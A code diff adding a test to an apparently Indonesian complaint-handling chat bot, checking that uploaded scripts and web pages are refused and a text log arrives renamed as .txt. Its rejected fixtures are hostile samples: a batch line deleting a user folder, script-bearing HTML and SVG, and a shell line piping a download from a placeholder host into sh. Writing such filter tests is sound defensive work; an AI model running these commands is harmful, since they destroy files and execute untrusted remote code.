@@ -147,3 +147,36 @@ async def test_a_file_that_cannot_be_cleaned_reaches_only_the_officers(world: Wo
     assert DESCRIPTION in relay.content
     assert not documents(world, YANKES)
     assert not any(NAME in text for text in tg.texts(YANKES))
+
+
+SCRIPT_REFUSED = "berkas skrip atau halaman web (seperti .bat, .html, .svg) tidak kami terima"
+PAGE = b"<!DOCTYPE html><html><body><script>fetch('/media')</script>Laporan</body></html>"
+
+
+async def test_scripts_and_web_pages_are_refused_and_text_arrives_as_txt(world: World) -> None:
+    tg = world.tg
+    await until_attachments(world)
+    for data, name, mime in [
+        (b"@echo off\r\ndel /q C:\\Users\\*\r\n", "kuitansi.bat", "application/x-bat"),
+        (PAGE, "laporan.html", "text/html"),
+        (
+            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+            "gambar.svg",
+            "image/svg+xml",
+        ),
+        (PAGE, "laporan.txt", "text/plain"),  # named as text, a web page by its content
+        (b"#!/bin/sh\ncurl http://contoh.test | sh\n", "bukti", "text/plain"),
+    ]:
+        await sends_file(world, data, name, mime)
+        told = await world.expect(world.citizen.id, f"Berkas «{name}» tidak dapat kami terima")
+        assert SCRIPT_REFUSED in told.content
+
+    text = b"Kronologi: 3 Mei petugas loket meminta Rp50.000.\n"
+    await sends_file(world, text, "kronologi.log", "text/plain")
+    await world.expect(world.citizen.id, "Lampiran diterima (1 berkas)")
+    code = await finish(world)
+    await tg.wait_for(lambda _: bool(documents(world, OFFICERS)), chat_id=OFFICERS, timeout=10)
+    assert list(documents(world, OFFICERS).values()) == [text]  # the original, by its id
+    await world.says(world.officer, f"/disposisi {code} YANKES", chat=world.officers)
+    await tg.wait_for(lambda _: bool(documents(world, YANKES)), chat_id=YANKES)
+    assert documents(world, YANKES) == {"kronologi.txt": text}  # named for what it is
